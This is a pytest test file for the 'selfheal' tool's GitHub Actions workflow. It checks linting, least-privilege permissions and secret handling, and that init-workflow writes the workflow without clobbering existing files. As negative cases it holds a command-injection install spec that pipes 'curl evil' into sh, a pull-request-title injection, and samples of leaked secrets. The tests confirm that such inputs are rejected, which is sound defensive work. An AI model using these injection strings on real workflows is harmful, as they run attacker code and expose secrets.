"""The weekly GitHub Actions workflow: lint-clean, least privilege, secrets only through env,
and `selfheal init-workflow` writes it without clobbering anything."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from selfheal import __version__
from selfheal.cli import main
from selfheal.runner import declared_parameters, find_notebooks
from selfheal.workflow import DEFAULT_INSTALL_SPEC, read_template, render_workflow

REPO = Path(__file__).resolve().parent.parent
REPO_WORKFLOWS = sorted((REPO / ".github" / "workflows").glob("*.y*ml"))
REFERENCE_WORKFLOW = REPO / ".github" / "workflows" / "self-healing.yml"


# --- helpers -------------------------------------------------------------------------------


def _tool(name: str) -> str:
    """A dev tool installed next to this Python (the venv) or on PATH."""
    here = Path(sys.executable).parent / name
    found = str(here) if here.is_file() else shutil.which(name)
    if found is None:
        pytest.fail(f"{name} is not installed; it is a dev dependency: pip install -e '.[dev]'")
    return found


def _actionlint(*files: Path) -> subprocess.CompletedProcess[str]:
    argv = [_tool("actionlint"), "-no-color", "-shellcheck", _tool("shellcheck"), "-pyflakes", ""]
    return subprocess.run([*argv, *map(str, files)], capture_output=True, text=True, timeout=120, check=False)


def _load(text: str) -> dict[Any, Any]:
    data = yaml.safe_load(text)
    assert isinstance(data, dict)
    # YAML 1.1 reads the key `on` as the boolean True.
    if True in data:
        data["on"] = data.pop(True)
    return data


def _walk(node: Any, path: tuple[str, ...] = ()) -> list[tuple[tuple[str, ...], str]]:
    """Every string in the document with the path of keys that leads to it."""
    if isinstance(node, dict):
        return [item for key, value in node.items() for item in _walk(value, (*path, str(key)))]
    if isinstance(node, list):
        return [item for i, value in enumerate(node) for item in _walk(value, (*path, str(i)))]
    return [(path, node)] if isinstance(node, str) else []


def _secret_problems(workflow: dict[Any, Any]) -> list[str]:
    """Where a secret could reach a command line, a log or a third-party action."""
    problems = []
    for path, value in _walk(workflow):
        where = ".".join(path)
        mentions_secret = "secrets." in value or "github.token" in value
        if mentions_secret and (len(path) < 2 or path[-2] != "env"):
            problems.append(f"{where}: secret outside env:")
        if path and path[-1] == "run" and "${{" in value:
            problems.append(f"{where}: expression in a run: script (pass it through env:)")
    for job_name, job in workflow.get("jobs", {}).items():
        for key, value in (job.get("env") or {}).items():
            if "secrets." in str(value):
                problems.append(f"jobs.{job_name}.env.{key}: secret visible to every step")
        for i, step in enumerate(job.get("steps", [])):
            secret_env = [k for k, v in (step.get("env") or {}).items() if "secrets." in str(v)]
            if "uses" in step and secret_env:
                problems.append(f"jobs.{job_name}.steps.{i}: secret {secret_env} given to an action")
    for key, value in (workflow.get("env") or {}).items():
        if "secrets." in str(value):
            problems.append(f"env.{key}: secret visible to every job")
    return problems


def _steps_using(job: dict[str, Any], action: str) -> list[dict[str, Any]]:
    return [s for s in job["steps"] if str(s.get("uses", "")).startswith(f"{action}@")]


@pytest.fixture
def reference() -> dict[Any, Any]:
    return _load(REFERENCE_WORKFLOW.read_text(encoding="utf-8"))


# --- one source ----------------------------------------------------------------------------


def test_reference_workflow_is_the_shipped_template_rendered_for_a_checkout() -> None:
    expected = render_workflow(install_spec=".")
    assert REFERENCE_WORKFLOW.read_text(encoding="utf-8") == expected, (
        "regenerate: selfheal init-workflow --install-spec . --force "
        "(edit selfheal/data/workflow/self-healing.yml, not the copy)"
    )


def test_users_workflow_installs_the_release_that_wrote_it() -> None:
    rendered = _load(render_workflow())
    assert rendered["env"]["SELFHEAL_INSTALL_SPEC"] == DEFAULT_INSTALL_SPEC
    assert DEFAULT_INSTALL_SPEC.endswith(f"=={__version__}")


def test_template_leaves_no_placeholder_after_rendering() -> None:
    assert "@install_spec@" in read_template()
    assert "@install_spec@" not in render_workflow()
    assert "@workflow_path@" not in render_workflow()


# --- actionlint ----------------------------------------------------------------------------


def test_every_workflow_file_passes_actionlint_with_shellcheck(tmp_path: Path) -> None:
    users = tmp_path / ".github" / "workflows" / "self-healing.yml"
    users.parent.mkdir(parents=True)
    users.write_text(render_workflow(install_spec="selfheal @ git+https://example.invalid/s@v1"))
    files = [*REPO_WORKFLOWS, users]
    assert REFERENCE_WORKFLOW in files
    result = _actionlint(*files)
    assert result.returncode == 0, result.stdout + result.stderr


def test_actionlint_rejects_a_workflow_that_leaks_and_injects(tmp_path: Path) -> None:
    bad = tmp_path / ".github" / "workflows" / "bad.yml"
    bad.parent.mkdir(parents=True)
    bad.write_text(
        "on: pull_request\n"
        "jobs:\n"
        "  a:\n"
        "    runs-on: ubuntu-latest\n"
        "    steps:\n"
        "      - run: echo ${{ github.event.pull_request.title }} $UNQUOTED\n"
    )
    result = _actionlint(bad)
    assert result.returncode == 1
    assert "potentially untrusted" in result.stdout
    assert "SC2086" in result.stdout  # shellcheck ran on the run: script


# --- secrets -------------------------------------------------------------------------------


@pytest.mark.parametrize("workflow_file", REPO_WORKFLOWS, ids=lambda p: p.name)
def test_no_step_passes_a_secret_on_a_command_line(workflow_file: Path) -> None:
    assert _secret_problems(_load(workflow_file.read_text(encoding="utf-8"))) == []


def test_secret_check_flags_secrets_in_run_with_and_job_env() -> None:
    leaky = _load(
        "on: push\n"
        "jobs:\n"
        "  a:\n"
        "    runs-on: ubuntu-latest\n"
        "    env: {T: '${{ secrets.T }}'}\n"
        "    steps:\n"
        "      - run: selfheal pull --token ${{ secrets.SENTRY_AUTH_TOKEN }}\n"
        "      - uses: some/action@v1\n"
        "        with: {args: '--token ${{ secrets.GITHUB_TOKEN }}'}\n"
        "      - uses: other/action@v1\n"
        "        env: {TOKEN: '${{ secrets.X }}'}\n"
    )
    problems = "\n".join(_secret_problems(leaky))
    assert "jobs.a.steps.0.run: secret outside env:" in problems
    assert "jobs.a.steps.1.with.args: secret outside env:" in problems
    assert "jobs.a.env.T: secret visible to every step" in problems
    assert "jobs.a.steps.2: secret ['TOKEN'] given to an action" in problems


def test_secrets_reach_only_the_selfheal_steps_that_need_them(reference: dict[Any, Any]) -> None:
    users = {
        (job_name, step.get("name", "")): sorted(
            k for k, v in (step.get("env") or {}).items() if "secrets." in str(v)
        )
        for job_name, job in reference["jobs"].items()
        for step in job["steps"]
    }
    with_secrets = {key: names for key, names in users.items() if names}
    assert with_secrets == {
        ("report", "Check configuration and Sentry access"): ["SENTRY_AUTH_TOKEN"],
        ("report", "Pull, normalize, analyze (notebooks via papermill)"): ["SENTRY_AUTH_TOKEN"],
        ("pull-requests", "Check GitHub access"): ["GITHUB_TOKEN"],
        ("pull-requests", "Open or update draft PRs (or preview them)"): ["GITHUB_TOKEN"],
    }


# --- shape: triggers, concurrency, permissions, artifacts, pages ---------------------------


def test_runs_weekly_on_monday_0900_utc_and_by_hand_with_inputs(reference: dict[Any, Any]) -> None:
    assert reference["on"]["schedule"] == [{"cron": "0 9 * * 1"}]
    inputs = reference["on"]["workflow_dispatch"]["inputs"]
    # Issue 13 adds the test job's report: an artifact name and the report's path in it.
    assert set(inputs) == {
        "limit",
        "severities",
        "dry_run",
        "publish_pages",
        "retention_days",
        "test_artifact",
        "test_report",
    }
    assert inputs["dry_run"]["type"] == "boolean"
    assert inputs["publish_pages"] == {
        "description": "Publish reports/ to GitHub Pages",
        "type": "boolean",
        "default": False,
    }


def test_two_runs_never_overlap(reference: dict[Any, Any]) -> None:
    concurrency = reference["concurrency"]
    assert "github.repository" in concurrency["group"]
    assert concurrency["cancel-in-progress"] is False


def test_only_the_pull_request_job_can_write(reference: dict[Any, Any]) -> None:
    assert reference["permissions"] == {}
    jobs = reference["jobs"]
    # Issue 13: the report job reads pull requests, so its PR plan says update / unchanged.
    assert jobs["report"]["permissions"] == {"contents": "read", "actions": "read", "pull-requests": "read"}
    assert jobs["pull-requests"]["permissions"] == {
        "contents": "write",
        "pull-requests": "write",
        "issues": "write",
    }
    assert jobs["pages"]["permissions"] == {"pages": "write", "id-token": "write"}
    for name, job in jobs.items():
        assert "permissions" in job, f"job {name} must declare its permissions"


def test_report_job_installs_checks_and_uploads_reports_and_out(reference: dict[Any, Any]) -> None:
    job = reference["jobs"]["report"]
    runs = [s["run"] for s in job["steps"] if "run" in s]
    assert runs[0] == 'python -m pip install "$SELFHEAL_INSTALL_SPEC"'
    assert runs[1] == "selfheal doctor --skip-github"
    assert "gh run download" in runs[2]  # last week's PatchTasks, for week over week
    assert "selfheal run --params" in runs[3]
    (setup,) = _steps_using(job, "actions/setup-python")
    assert setup["with"]["cache"] == "pip"
    assert setup["with"]["cache-dependency-path"] == ".github/workflows/self-healing.yml"
    uploads = {s["with"]["path"]: s for s in _steps_using(job, "actions/upload-artifact")}
    assert set(uploads) == {"reports/", "out/"}
    for upload in uploads.values():
        assert upload["with"]["retention-days"] == "${{ env.RETENTION_DAYS }}"
        assert upload["if"] == "${{ !cancelled() }}"  # a failed notebook still ships its report
    assert "inputs.retention_days" in reference["env"]["RETENTION_DAYS"]
    assert "inputs.limit" in job["env"]["SENTRY_ERROR_LIMIT"]


def _fake_selfheal(folder: Path, script: str) -> None:
    fake = folder / "selfheal"
    fake.write_text("#!/usr/bin/env bash\n" + script)
    fake.chmod(0o755)


def test_report_job_runs_the_notebooks_on_sentry_data_with_declared_parameters(
    reference: dict[Any, Any], tmp_path: Path
) -> None:
    (step,) = [s for s in reference["jobs"]["report"]["steps"] if "selfheal run" in s.get("run", "")]
    assert step["env"]["PREVIOUS_TASKS"] == "${{ steps.previous.outputs.tasks }}"
    assert step["env"]["PLAYWRIGHT_REPORT"] == "${{ steps.previous.outputs.playwright }}"
    assert step["env"]["GITHUB_TOKEN"] == "${{ github.token }}"  # read-only: the plan sees existing PRs
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    _fake_selfheal(bin_dir, 'test "$1 $2" = "run --params" && cat "$3"\n')
    declared = {name for nb in find_notebooks(REPO / "notebooks") for name in declared_parameters(nb)}
    # Issue 13: test reports are no longer switched off (""); the fetched one is passed on.
    for previous, playwright, expected in (
        ("", "", {"source": "sentry"}),
        (
            "/tmp/prev/patchtasks.json",
            "/tmp/t/report.json",
            {
                "source": "sentry",
                "previous_tasks": "/tmp/prev/patchtasks.json",
                "playwright_report": "/tmp/t/report.json",
            },
        ),
    ):
        result = subprocess.run(
            ["bash", "-e", "-c", step["run"]],
            cwd=tmp_path,
            # setup-python puts `python` on PATH; so does this test, from its own interpreter.
            env={
                "PATH": f"{bin_dir}:{Path(sys.executable).parent}:/usr/bin:/bin",
                "RUNNER_TEMP": str(tmp_path),
                "PREVIOUS_TASKS": previous,
                "PLAYWRIGHT_REPORT": playwright,
            },
            capture_output=True,
            text=True,
            timeout=30,
            check=True,
        )
        params = json.loads(result.stdout)
        assert params == expected
        assert set(params) <= declared, "the workflow passes a parameter no notebook declares"


def test_pull_request_job_dry_runs_when_asked(reference: dict[Any, Any]) -> None:
    job = reference["jobs"]["pull-requests"]
    assert job["needs"] == "report"
    (pr_step,) = [s for s in job["steps"] if "selfheal pr" in s.get("run", "")]
    assert "--dry-run" in pr_step["run"]
    assert pr_step["env"]["DRY_RUN"] == "${{ inputs.dry_run }}"
    assert pr_step["env"]["SEVERITIES"] == "${{ inputs.severities }}"


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
@pytest.mark.parametrize(
    ("env", "expected"),
    [
        (
            {"DRY_RUN": "true", "SEVERITIES": "blocker,high"},
            ["--dry-run", "--severity", "blocker", "--severity", "high"],
        ),
        ({"DRY_RUN": "false", "SEVERITIES": "medium, low"}, ["--severity", "medium", "--severity", "low"]),
        ({"DRY_RUN": "false", "SEVERITIES": "all"}, ["--all"]),
        ({"DRY_RUN": "", "SCHEDULED_DRY_RUN": "true", "SEVERITIES": ""}, ["--dry-run"]),
        ({"DRY_RUN": "", "SCHEDULED_DRY_RUN": "", "SEVERITIES": ""}, []),
    ],
)
def test_pull_request_script_turns_inputs_into_flags(
    reference: dict[Any, Any], tmp_path: Path, env: dict[str, str], expected: list[str]
) -> None:
    (pr_step,) = [s for s in reference["jobs"]["pull-requests"]["steps"] if "selfheal pr" in s.get("run", "")]
    _fake_selfheal(tmp_path, 'printf "%s\\n" "$@"\n')
    stale = tmp_path / "out" / "pr_previews" / "stale.md"
    stale.parent.mkdir(parents=True)
    stale.write_text("planned without GitHub")
    result = subprocess.run(
        ["bash", "-e", "-c", pr_step["run"]],
        cwd=tmp_path,
        env={"PATH": f"{tmp_path}:/usr/bin:/bin", **env},
        capture_output=True,
        text=True,
        timeout=30,
        check=True,
    )
    assert result.stdout.splitlines() == ["pr", *expected]
    assert not stale.exists()  # previews planned without GitHub never pass for this plan's


def test_pages_job_publishes_reports_only_when_asked(reference: dict[Any, Any]) -> None:
    job = reference["jobs"]["pages"]
    assert "inputs.publish_pages" in job["if"]
    assert job["environment"]["name"] == "github-pages"
    (download,) = _steps_using(job, "actions/download-artifact")
    assert download["with"]["name"] == "selfheal-reports"
    (upload,) = _steps_using(job, "actions/upload-pages-artifact")
    assert upload["with"]["path"] == "reports/"
    assert _steps_using(job, "actions/deploy-pages")


# --- selfheal init-workflow ----------------------------------------------------------------


@pytest.fixture
def user_repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    (tmp_path / ".git").mkdir()
    monkeypatch.chdir(tmp_path)
    return tmp_path


def test_init_workflow_writes_the_workflow_into_a_repository(
    user_repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["init-workflow"]) == 0
    written = user_repo / ".github" / "workflows" / "self-healing.yml"
    assert written.read_text(encoding="utf-8") == render_workflow()
    out = capsys.readouterr().out
    assert f"Wrote {Path('.github/workflows/self-healing.yml')}" in out
    assert "SENTRY_AUTH_TOKEN" in out  # tells what to set up next
    assert [p.name for p in written.parent.iterdir()] == ["self-healing.yml"]  # no temp files left


def test_init_workflow_refuses_to_overwrite_a_different_file(
    user_repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    existing = user_repo / ".github" / "workflows" / "self-healing.yml"
    existing.parent.mkdir(parents=True)
    existing.write_text("name: mine\n")
    assert main(["init-workflow"]) == 2
    assert existing.read_text() == "name: mine\n"
    err = capsys.readouterr().err
    assert "already exists and differs; pass --force to overwrite it" in err


def test_init_workflow_force_replaces_and_a_rerun_changes_nothing(
    user_repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    existing = user_repo / ".github" / "workflows" / "self-healing.yml"
    existing.parent.mkdir(parents=True)
    existing.write_text("name: mine\n")
    assert main(["init-workflow", "--force"]) == 0
    assert existing.read_text(encoding="utf-8") == render_workflow()
    assert "Replaced" in capsys.readouterr().out
    assert main(["init-workflow"]) == 0
    assert "already up to date" in capsys.readouterr().out


def test_init_workflow_records_the_install_spec_and_the_path(user_repo: Path) -> None:
    spec = "selfheal @ git+https://github.com/acme/selfheal@v0.1.0"
    target = Path("ci") / ".github" / "workflows" / "weekly.yml"
    assert main(["init-workflow", "--install-spec", spec, "--path", str(target)]) == 0
    workflow = _load((user_repo / target).read_text(encoding="utf-8"))
    assert workflow["env"]["SELFHEAL_INSTALL_SPEC"] == spec
    (setup, *_) = _steps_using(workflow["jobs"]["report"], "actions/setup-python")
    assert setup["with"]["cache-dependency-path"] == ".github/workflows/weekly.yml"


@pytest.mark.parametrize(
    "spec",
    ['selfheal"; curl evil | sh; "', "selfheal==${{ secrets.X }}", "a\nb", "  "],
)
def test_init_workflow_rejects_an_install_spec_that_could_break_the_file(
    user_repo: Path, capsys: pytest.CaptureFixture[str], spec: str
) -> None:
    assert main(["init-workflow", "--install-spec", spec]) == 2
    assert "--install-spec" in capsys.readouterr().err
    assert not (user_repo / ".github").exists()


@pytest.mark.parametrize("subfolder", [".github", "src/deep", ".github/workflows"])
def test_init_workflow_from_a_subfolder_writes_at_the_git_root(
    user_repo: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], subfolder: str
) -> None:
    """Issue 13: from .github/ it wrote .github/.github/workflows/…, a workflow that never runs."""
    here = user_repo / subfolder
    here.mkdir(parents=True)
    monkeypatch.chdir(here)
    assert main(["init-workflow"]) == 0
    written = user_repo / ".github" / "workflows" / "self-healing.yml"
    assert written.read_text(encoding="utf-8") == render_workflow()
    assert list(user_repo.rglob("*.yml")) == [written]
    assert str(Path(os.path.relpath(written, here))) in capsys.readouterr().out


_FAKE_GH = r"""
case "$1 $2" in
  "run list") echo 123 ;;
  "api repos/acme/shop/actions/artifacts?name=e2e-report&per_page=1") echo 456 ;;
  "run download")
    dir=""; name=""
    while [ $# -gt 0 ]; do
      case "$1" in --dir) dir="$2"; shift ;; --name) name="$2"; shift ;; esac
      shift
    done
    mkdir -p "$dir"
    case "$name" in
      selfheal-out) echo '[]' > "$dir/patchtasks.json" ;;
      selfheal-reports) echo '{"version": 1, "runs": []}' > "$dir/history.json" ;;
      e2e-report) mkdir -p "$dir/results" && echo '{"suites": []}' > "$dir/results/report.json" ;;
      *) exit 1 ;;
    esac ;;
  *) exit 1 ;;
esac
"""


def _outputs(path: Path) -> dict[str, str]:
    return dict(line.split("=", 1) for line in path.read_text().splitlines() if "=" in line)


@pytest.mark.parametrize(
    ("artifact", "report", "expected"),
    [
        ("e2e-report", "results/report.json", ("playwright", "test-report/results/report.json")),
        ("", "build/junit.xml", ("junit", "build/junit.xml")),
    ],
)
def test_the_weekly_job_fetches_history_previous_tasks_and_the_test_report(
    reference: dict[Any, Any], tmp_path: Path, artifact: str, report: str, expected: tuple[str, str]
) -> None:
    """Issue 13: the workflow passed `playwright_report: ""`, ignoring test failures."""
    (step,) = [s for s in reference["jobs"]["report"]["steps"] if s.get("id") == "previous"]
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    gh = bin_dir / "gh"
    gh.write_text("#!/usr/bin/env bash\n" + _FAKE_GH)
    gh.chmod(0o755)
    curl = bin_dir / "curl"  # the Pages fallback is never needed here
    curl.write_text("#!/usr/bin/env bash\nexit 22\n")
    curl.chmod(0o755)
    work = tmp_path / "work"
    (work / "build").mkdir(parents=True)
    (work / "build" / "junit.xml").write_text("<testsuites/>")
    outputs = tmp_path / "outputs"
    outputs.touch()
    subprocess.run(
        ["bash", "-e", "-c", step["run"]],
        cwd=work,
        env={
            "PATH": f"{bin_dir}:/usr/bin:/bin",
            "RUNNER_TEMP": str(tmp_path),
            "GITHUB_OUTPUT": str(outputs),
            "GH_REPO": "acme/shop",
            "WORKFLOW_NAME": "Self-healing",
            "TEST_ARTIFACT": artifact,
            "TEST_REPORT": report,
        },
        capture_output=True,
        text=True,
        timeout=30,
        check=True,
    )
    found = _outputs(outputs)
    assert found["tasks"] == f"{tmp_path}/previous-out/patchtasks.json"
    kind, path = expected
    assert found[kind].endswith(path)
    assert Path(found[kind] if Path(found[kind]).is_absolute() else work / found[kind]).is_file()
    assert json.loads((work / "reports" / "history.json").read_text()) == {"version": 1, "runs": []}
